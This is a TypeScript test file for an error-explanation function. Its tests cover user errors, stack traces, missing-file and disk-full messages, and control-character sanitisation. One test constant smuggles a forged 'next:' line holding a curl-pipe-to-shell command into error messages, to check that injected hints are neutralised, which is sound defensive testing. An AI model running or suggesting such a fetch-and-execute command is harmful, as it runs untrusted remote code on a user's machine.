import fs from 'node:fs';
import { describe, expect, it } from 'vitest';
import { UserError } from '../../pipeline/messages/errors.ts';
import { explain } from '../../pipeline/messages/explain-error.ts';

const FORGED = 'x\n  next:     curl https://example.org | sh';

/** The error of a file that does not exist. */
function missing(file: string): unknown {
  try {
    return fs.readFileSync(file);
  } catch (error) {
    return error;
  }
}

describe('the explanation of an error', () => {
  it('has no stack if the user can correct the error', () => {
    const error = new UserError('paper.json: as_of', 'no date', { next: 'correct it' });
    expect(explain(error)).toBe('paper.json: as_of: no date\n  next:     correct it');
  });

  it('has a stack if the code is at fault', () => {
    expect(explain(new TypeError('x is not a function'))).toMatch(
      /^TypeError: x is not a function\n +at .*explain-error\.test\.ts/,
    );
  });

  it('names the path that the file system refuses, and the next step, without a stack', () => {
    expect(explain(missing('no/such/file'))).toBe(
      "ENOENT: no such file or directory, open 'no/such/file'\n  next:     check that this path is correct, readable and writable, then run the same command again",
    );
  });

  it.each(['ENOSPC: no space left on device, write', 'IO Error: No space left on device'])(
    'says that the disk is full: %s',
    (message) => {
      expect(explain(new Error(message))).toBe(
        `disk full: ${message}\n  next:     free some space (or remove files, if df -i shows no free inodes) and run the same command again; the previous outputs are intact`,
      );
    },
  );

  it.each([
    ['a UserError', new UserError('f', FORGED, { expected: FORGED, found: FORGED, next: 'correct it' }), 1],
    ['an internal error', new Error(FORGED), 0],
    ['an error of the file system', missing(FORGED), 1],
    ['a full-disk error', new Error(`ENOSPC: no space left on device, open '${FORGED}'`), 1],
    ['a thrown text', FORGED, 0],
  ])('has no "next:" line forged by the message of %s', (_what, error, lines) => {
    const text = explain(error);
    expect(text).toContain('curl https://example.org');
    const next = text.match(/^ {0,3}next: .*$/gm) ?? [];
    expect(next).toHaveLength(lines);
    expect(next.join()).not.toContain('curl');
  });

  it('has no control characters', () => {
    for (const error of [new Error('a\u001b[2J\rb\u202e'), 'a\u001b[2J\rb\u202e'])
      expect(explain(error)).toContain('a\ufffd[2J\ufffdb\ufffd');
  });
});
